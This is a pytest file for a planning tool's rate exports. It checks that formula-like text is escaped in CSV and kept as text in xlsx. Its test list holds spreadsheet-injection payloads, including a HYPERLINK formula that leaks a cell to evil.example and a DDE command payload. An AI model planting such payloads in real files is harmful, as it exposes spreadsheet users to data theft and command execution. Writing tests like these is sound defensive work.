"""Exports never hand a spreadsheet a formula someone typed (CSV and xlsx)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from planner.boq.rates import RateEntry, export_rates_csv, export_rates_xlsx
from planner.spreadsheets import csv_cell, is_formula_like

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "＝1+1",  # full-width equals sign, which some spreadsheet programs also accept
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_recognised(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


def test_plain_text_and_numbers_stay_as_they_are():
    assert csv_cell("桂林医学院维修价格清单") == "桂林医学院维修价格清单"
    assert csv_cell(-12.5) == -12.5  # a number is never a formula


def _entries() -> list[RateEntry]:
    return [
        RateEntry("roof_waterproofing", 52.56, source=text, description=text) for text in HOSTILE
    ]


def test_rates_xlsx_keeps_typed_formulas_as_text():
    book = openpyxl.load_workbook(io.BytesIO(export_rates_xlsx(_entries())))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(HOSTILE) <= texts
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_rates_csv_prefixes_typed_formulas():
    text = export_rates_csv(_entries()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    sources = [row[6] for row in rows[1:]]
    assert sources == ["'" + h for h in HOSTILE]
    assert all(is_formula_like(s[1:]) and s.startswith("'") for s in sources)
